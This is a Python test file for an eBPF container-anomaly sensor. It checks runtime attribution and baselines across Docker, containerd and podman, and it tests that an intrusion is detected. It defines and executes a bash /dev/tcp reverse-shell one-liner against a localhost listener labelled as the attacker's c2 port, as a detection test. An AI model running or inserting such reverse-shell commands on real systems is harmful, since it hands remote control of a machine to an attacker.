"""Real containers in Docker, containerd through CRI and podman, seen by the real eBPF sensor with no
attribution rules: ``baseliner sensor --source bpf`` streams to a real ``baseliner serve``.

Per runtime, a web container (requests to a server on the host, over bash's /dev/tcp) and a worker container
(file writes), each from its own image built from the locally made base.  Checked: the vectors carry the
image, the container name and, through CRI, the pod and namespace; every image gets its own baseline; a
reverse shell run inside the web container (``docker exec``, ``podman exec``, CRI ``ExecSync`` as
``kubectl exec`` does) is flagged on that image and container.

Needs root, BPF and the runtimes (scripts/runtimes.sh starts them); fails instead of skipping when ``CI`` is
set.  About three minutes.
"""

from __future__ import annotations

import os
import re
import subprocess
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from baseliner.models.recording import RecordingReader
from baseliner.models.vector import FeatureVector

from tests.bpf_required import require_bpf
from tests.runtime_containers import Container, Cri, Docker, Podman, require_runtimes
from tests.test_sensor_bpf_e2e import BASELINER, REPO, Listener, baseline_states, free_port, read_events

pytestmark = [pytest.mark.root, pytest.mark.slow]

RUNTIMES = ("docker", "cri", "podman")
LEARN_WINDOWS = 10
WEB = ('while :; do exec 3<>/dev/tcp/127.0.0.1/{port}; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3 >/dev/null; '
       'exec 3>&-; sleep 0.1; done')
WORKER = "while :; do head -c 4096 /dev/zero > /tmp/job; cat /tmp/job > /dev/null; rm -f /tmp/job; sleep 0.1; done"
REVERSE_SHELL = "bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"


def image_of(runtime: str, role: str) -> str:
    return f"localhost/baseliner-test/{runtime}-{role}:1"


@dataclass
class Stack:
    port: int
    metrics_port: int
    events: Path
    env: dict[str, str]
    c2: Listener
    runtimes: dict[str, Any]
    containers: dict[tuple[str, str], Container] = field(default_factory=dict)
    recorded: list[FeatureVector] = field(default_factory=list)
    procs: list[subprocess.Popen[str]] = field(default_factory=list)


def _stop(procs: list[subprocess.Popen[str]]) -> None:
    for p in reversed(procs):
        if p.poll() is None:
            p.terminate()
    for p in procs:
        try:
            p.wait(15)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    require_bpf()
    require_runtimes()
    tmp = tmp_path_factory.mktemp("runtimes")
    app, c2 = Listener(), Listener(range(4444, 4544))  # c2: the attacker's port, never used while learning
    s = Stack(port=free_port(), metrics_port=free_port(), events=tmp / "events.jsonl", c2=c2,
              env={**os.environ, "PYTHONPATH": str(REPO)},
              runtimes={"docker": Docker(), "cri": Cri(), "podman": Podman()})
    try:
        for name, rt in s.runtimes.items():
            for role in ("web", "worker"):
                rt.build(image_of(name, role), f"{name}-{role}")
        s.procs.append(subprocess.Popen([
            *BASELINER, "serve", "--listen", f"127.0.0.1:{s.port}", "--metrics-listen", "", "--events", str(s.events),
            "--set", f"baseline.min_learn_windows={LEARN_WINDOWS}", "--set", "baseline.min_learn_seconds=0",
            "--set", "baseline.stable_confidence=0",
            "--set", "baseline.startup_seconds=0", "--set", "baseline.novelty_min_containers=1",
        ], env=s.env, cwd=REPO, text=True))
        # no attribution rule, no runtime named: the sensor finds the runtimes' sockets itself
        s.procs.append(subprocess.Popen([
            *BASELINER, "sensor", "--source", "bpf", "--target", f"127.0.0.1:{s.port}", "--node", "rt-node",
            "--window", "1", "--host", "ignore", "--metrics-listen", f"127.0.0.1:{s.metrics_port}",
        ], env=s.env, cwd=REPO, text=True))
        for name, rt in s.runtimes.items():
            s.containers[name, "web"] = rt.run("web", image_of(name, "web"), WEB.format(port=app.port))
            s.containers[name, "worker"] = rt.run("worker", image_of(name, "worker"), WORKER)
        record = tmp / "recording.jsonl"
        subprocess.run([*BASELINER, "sensor", "record", "--source", "bpf", "--out", str(record), "--windows", "3",
                        "--window", "1", "--host", "ignore", "--node", "rt-node"],
                       env=s.env, cwd=REPO, check=True, timeout=300, capture_output=True)
        s.recorded = list(RecordingReader(record).vectors())
        wait_until_detecting(s, [image_of(n, r) for n in RUNTIMES for r in ("web", "worker")])
        yield s
    finally:
        for rt in s.runtimes.values():
            rt.cleanup()
        _stop(s.procs)
        app.close()
        c2.close()


def wait_until_detecting(s: Stack, images: list[str], timeout: float = 240) -> None:
    deadline = time.monotonic() + timeout
    while True:
        for p in s.procs:
            assert p.poll() is None, f"{p.args!r} exited with {p.returncode}"
        states = baseline_states(s.port, s.env)
        if all(states.get(i) == "detecting" for i in images):
            return
        assert time.monotonic() < deadline, f"baselines still not detecting: {states}"
        time.sleep(2)


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_vectors_carry_the_runtime_identity(stack: Stack, runtime: str) -> None:
    for role in ("web", "worker"):
        c = stack.containers[runtime, role]
        mine = [v for v in stack.recorded if v.identity.container_id == c.id]
        assert mine, f"no vector of {runtime} {role} ({c.id[:12]}) in {len(stack.recorded)} recorded"
        i = mine[0].identity
        assert (i.image, i.container_name, i.node) == (image_of(runtime, role), c.name, "rt-node")
        assert (i.pod, i.namespace) == (c.pod, c.namespace)
        if runtime == "cri":
            assert i.pod.startswith(f"{role}-") and i.namespace == "baseliner-test"
        assert sum(v.syscalls.get("write", 0) + v.syscalls.get("read", 0) for v in mine) > 0


def test_each_image_gets_its_own_baseline(stack: Stack) -> None:
    states = baseline_states(stack.port, stack.env)
    for runtime in RUNTIMES:
        for role in ("web", "worker"):
            assert states.get(image_of(runtime, role)) == "detecting", states
    assert "unknown" not in states and not any(k.startswith("unknown") for k in states), states


def test_sensor_metrics_show_each_runtime(stack: Stack) -> None:
    text = urllib.request.urlopen(f"http://127.0.0.1:{stack.metrics_port}/metrics", timeout=10).read().decode()
    for runtime, sock in (("containerd", "/run/containerd/containerd.sock"), ("docker", "/var/run/docker.sock"),
                          ("podman", "/run/podman/podman.sock")):
        assert f'baseliner_sensor_runtime_up{{runtime="{runtime}",socket="{sock}"}} 1.0' in text
        found = re.search(rf'baseliner_sensor_runtime_lookups_total{{result="found",runtime="{runtime}"}} (\S+)', text)
        assert found and float(found.group(1)) >= 2, runtime
    assert re.search(r'baseliner_sensor_windows_unattributed_total{reason="unknown_container"} 0.0', text)


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_reverse_shell_is_flagged_on_its_image(stack: Stack, runtime: str) -> None:
    web, worker = stack.containers[runtime, "web"], stack.containers[runtime, "worker"]
    wait_until_detecting(stack, [web.image, worker.image])
    quiet = len(read_events(stack.events))
    shell = stack.runtimes[runtime].exec(web, REVERSE_SHELL.format(port=stack.c2.port))
    # the shell ends when the c2 closes: 127 (its reply is no command) or 141 (SIGPIPE), depending on timing
    assert shell.returncode in (0, 127, 141), (shell.returncode, shell.stderr)

    def novel(e: dict[str, Any]) -> set[tuple[str, str]]:
        return {(n["kind"], n["value"]) for n in e["novel"]}

    deadline = time.monotonic() + 30
    hits: list[dict[str, Any]] = []
    while time.monotonic() < deadline and not hits:
        time.sleep(1)
        hits = [e for e in read_events(stack.events)[quiet:]
                if e["container"]["id"] == web.id
                and any("port" in kind and str(stack.c2.port) in value for kind, value in novel(e))]
    mine = [e for e in read_events(stack.events)[quiet:] if e["container"]["id"] == web.id]
    assert hits, f"no anomaly with the c2 port for {runtime} web; its events: {[novel(e) for e in mine]}"
    ev = hits[0]
    repo, _, tag = web.image.rpartition(":")
    assert (ev["image"]["repository"], ev["image"]["tag"]) == (repo, tag)
    assert (ev["container"]["name"], ev["pod"], ev["namespace"]) == (web.name, web.pod, web.namespace)
    assert ev["baseline_state"] != "learning"
    # the attack is this container's alone: no other container's window has the c2 port
    assert not [e["container"]["name"] for e in read_events(stack.events)[quiet:]
                if e["container"]["id"] != web.id and any(str(stack.c2.port) in v for _, v in novel(e))]
